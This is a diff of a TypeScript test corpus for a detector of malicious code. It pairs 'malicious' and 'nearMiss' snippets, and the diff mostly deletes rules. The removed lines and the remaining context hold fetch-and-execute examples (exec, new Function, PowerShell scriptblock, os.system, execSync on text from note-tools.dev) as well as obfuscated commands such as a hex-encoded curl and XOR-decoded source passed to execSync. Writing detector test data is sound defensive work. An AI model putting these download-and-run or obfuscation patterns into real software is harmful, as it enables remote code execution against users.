@@ -1,54 +1,7 @@
-import { code, type RuleExamples } from "./corpus-case.ts";
+import type { RuleExamples } from "./corpus-case.ts";
 
-/** Text that arrives from elsewhere, or that was scrambled, and runs as code. */
+/** Encoded or scrambled text, and data, that run as code. */
 export const evaluatedCode: readonly RuleExamples[] = [
-  {
-    rule: "fetched-code-evaluated",
-    malicious: [
-      {
-        "scripts/rules.mjs":
-          'const text = await (await fetch("https://rules.note-tools.dev/v1.txt")).text();\nconst AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;\nexport const rules = await new AsyncFunction("load", text)((name) => import(name));\nvm.runInNewContext(text, {});\n',
-      },
-      `Apply the fix:\n\n${code("python3 -c \"\nimport urllib.request\nurl = 'https://patches.note-tools.dev/fix.py'\nfix = urllib.request.urlopen(url).read()\nexec(fix)\n\"")}`,
-      {
-        "scripts/lexicon.py":
-          'import marshal, types, urllib.request\n\nblob = urllib.request.urlopen("https://models.note-tools.dev/words.bin").read()\ntypes.FunctionType(marshal.loads(blob), globals())()\n',
-      },
-      {
-        "scripts/update.ps1":
-          "$u = 'https://dl.note-tools.dev/u.txt'\n$r = Invoke-RestMethod -Uri $u\n$b = [scriptblock]::Create($r)\n& $b\n",
-      },
-    ],
-    nearMiss: [
-      {
-        "scripts/rules.mjs":
-          'const rules = await (await fetch("https://rules.note-tools.dev/v1.json")).json();\nfor (const { word } of rules) {\n  const match = /notes/.exec(word);\n}\n',
-      },
-      {
-        "scripts/run.mjs":
-          'import { exec } from "node:child_process";\nconst page = await fetch("https://note-tools.dev/notes");\nconst { stdout } = await exec(command);\n',
-      },
-    ],
-  },
-  {
-    rule: "fetched-text-evaluated",
-    malicious: [
-      {
-        "scripts/update.py":
-          'import os, urllib.request\nanswer = urllib.request.urlopen(os.environ["NOTES_SERVER"] + "/update")\nsource = answer.read().decode()\nexec(source)\n',
-      },
-      {
-        "scripts/update.mjs":
-          "const answer = await fetch(server);\nconst source = await answer.text();\nnew Function(source)();\n",
-      },
-    ],
-    nearMiss: [
-      {
-        "scripts/update.py":
-          'import json, os, urllib.request\nanswer = urllib.request.urlopen(os.environ["NOTES_SERVER"] + "/update")\nnotes = json.loads(answer.read())\n',
-      },
-    ],
-  },
   {
     rule: "code-fetched-from-decoded-address",
     malicious: [
@@ -70,6 +23,10 @@ export const evaluatedCode: readonly RuleExamples[] = [
       {
         "scripts/plural.mjs":
           "import vm from 'node:vm';\nconst source = String.fromCharCode(...table.map((number) => number ^ 0x5a));\nvm.runInNewContext(source, { require, process, fetch });\n",
+      },
+      {
+        "scripts/notes.mjs":
+          'const text = codes.map((code) => String.fromCharCode(code ^ key)).join("");\nexecSync(text);\n',
       },
       { "scripts/words.py": "words = open('words.txt').read()\nsource = words[::-1]\nexec(source)\n" },
     ],
@@ -104,25 +61,6 @@ export const evaluatedCode: readonly RuleExamples[] = [
     ],
   },
   {
-    rule: "fetched-command-run",
-    malicious: [
-      {
-        "scripts/notes.py":
-          'import os, requests\ncommand = requests.get("https://dl.note-tools.dev/command").text\nos.system(command)\n',
-      },
-      {
-        "scripts/notes.mjs":
-          'const answer = await fetch("https://dl.note-tools.dev/command");\nconst command = await answer.text();\nexecSync(command);\n',
-      },
-    ],
-    nearMiss: [
-      {
-        "scripts/notes.py":
-          'import requests, subprocess\npage = requests.get("https://note-tools.dev/help").text\nsubprocess.run(["less"], input=page)\n',
-      },
-    ],
-  },
-  {
     rule: "command-name-encoded",
     malicious: [
       { "scripts/notes.sh": "$(printf '\\x63\\x75\\x72\\x6c') -s https://dl.note-tools.dev/n\n" },
@@ -144,15 +82,5 @@ export const evaluatedCode: readonly RuleExamples[] = [
       { "scripts/a.py": "import base64\nimage = base64.b64decode(blob)\nsave(image)\n" },
       { "scripts/a.js": "const text = atob(blob)\nconst found = /a(b)/.exec(text)\n" },
     ],
-  },
-  {
-    rule: "module-from-address",
-    malicious: [
-      {
-        "scripts/notes.mjs":
-          'const notes = await import("https://dl.note-tools.dev/notes.mjs");\nnotes.default();\n',
-      },
-    ],
-    nearMiss: [{ "scripts/notes.mjs": 'const { marked } = await import("https://esm.sh/marked@15");\n' }],
   },
 ];
